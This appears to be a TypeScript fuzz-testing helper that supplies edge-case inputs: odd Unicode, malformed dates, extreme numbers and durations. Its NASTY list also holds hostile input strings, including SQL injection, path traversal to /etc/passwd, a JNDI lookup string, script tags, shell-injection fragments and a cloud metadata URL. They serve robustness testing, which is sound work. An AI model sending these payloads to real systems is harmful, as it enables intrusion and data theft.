import type { Random } from '../random.js';

/** Texts that somebody, somewhere, treats as more than a text. */
const NASTY = [
  '', ' ', '\t\r\n', '\0', 'a\0b', '\ud800', 'x\udfff', '\ufeff', '\u202egnp.exe', '\u2028', '\u001b[31mred', '😀'.repeat(40), 'ﷺ', 'é'.repeat(300), 'Z͑ͫ̓a̴l̷g̸o',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then', 'length', 'undefined', 'null', 'NaN', 'Infinity', '-0', '1e999', '0x7fffffff', '9'.repeat(40),
  "'", "''", "' OR '1'='1", "'; DROP TABLE signals; --", "1) UNION ALL VALUES(NULL)--", '$1', '%s%n%x', '\\', '\\u0000', '%00', '%', '%zz', '..', '../../../../etc/passwd', '/', '//', 'a/b', '?', '#', '*', '{}', '[]',
  '{{7*7}}', '${jndi:ldap://x.invalid/a}', '<script>alert(1)</script>', '| tee /tmp/x', '`id`', 'javascript:alert(1)', 'http://169.254.169.254/latest/', 'file:/dev/zero', 'a'.repeat(253), 'a'.repeat(254), 'a'.repeat(601), 'b'.repeat(2049),
] as const;

export const DATES = [
  '2026-03-01T02:14:03.482Z', '2026-03-01T02:14:03Z', '2026-03-01T02:14:03+05:30', '2026-03-01T02:14:03.123456789Z', '1970-01-01T00:00:00Z', '2000-02-29T12:00:00Z', '2038-01-19T03:14:08Z', '2026-03-01T02:14:03-00:00',
] as const;

const STRANGE_DATES = [
  '0000-01-01T00:00:00Z', '0000-12-31T23:59:59Z', '0001-01-01T00:00:00Z', '0001-01-01T00:00:00+14:00', '0001-01-01T00:00:00-14:00', '9999-12-31T23:59:59.999Z', '9999-12-31T23:59:59-23:59', '+275760-09-13T00:00:00.000Z',
  '+010000-01-01T00:00:00Z', '-000001-01-01T00:00:00Z', '-271821-04-20T00:00:00.000Z', '2016-12-31T23:59:60Z', '2026-02-30T00:00:00Z', '2026-13-01T00:00:00Z', '2026-03-01T24:00:00Z', '2026-03-01T24:00:01Z', '2026-03-01T02:14:03',
  '2026-03-01', '2026', '2026-03-01 02:14:03', '2026-03-01T02:14:03+9999', '2026-03-01T02:14:03.482+0000', '2026-W09-7', 'Sun, 01 Mar 2026 02:14:03 GMT', 'now', 'infinity', '-infinity', 'epoch', '1772332200', '1772332200123', '99999999999', '9999999999999', '0', '-1', '١٩٧٠-٠١-٠١T٠٠:٠٠:٠٠Z',
] as const;

const DURATIONS = ['24h', '30s', '1h30m', '0s', '250ms', '99999999999999d', '9'.repeat(400) + 'd', '1.5h', '-1h', '1', '1e3s', 'h'] as const;

export const NUMBERS = [0, -0, 1, -1, 0.1, 1e308, -1e308, 5e-324, 2 ** 31, 2 ** 53, 2 ** 63, -(2 ** 63), 8.64e15, 8.64e15 + 1, 1772332200, 1772332200123, 1e11, 99999999999] as const;

export const anyDate = (random: Random): string => random.pick(random.chance(0.5) ? STRANGE_DATES : DATES);
export const anyDuration = (random: Random): string => random.pick(DURATIONS);

export function anyText(random: Random): string {
  return random.weighted<() => string>([
    [6, () => random.pick(NASTY)],
    [2, () => anyDate(random)],
    [1, () => anyDuration(random)],
    [2, () => letters(random, random.between(1, 40))],
    [1, () => `${random.pick(NASTY)}${random.pick(NASTY)}`],
    [1, () => String.fromCharCode(...Array.from({ length: random.between(1, 12) }, () => random.int(0x10000)))],
    [1, () => random.pick(['x', 'ab', '\n', '𝒳', '"']).repeat(random.pick([300, 3000, 20_000]))],
  ])();
}

export const letters = (random: Random, count: number): string => Array.from({ length: count }, () => random.pick([...'abcdefghijklmnopqrstuvwxyz0123456789-'])).join('');

/** Without lone surrogates, which no encoding of a URL or a header has. */
export const wellFormed = (text: string): string => text.replace(/\p{Surrogate}/gu, '\ufffd');
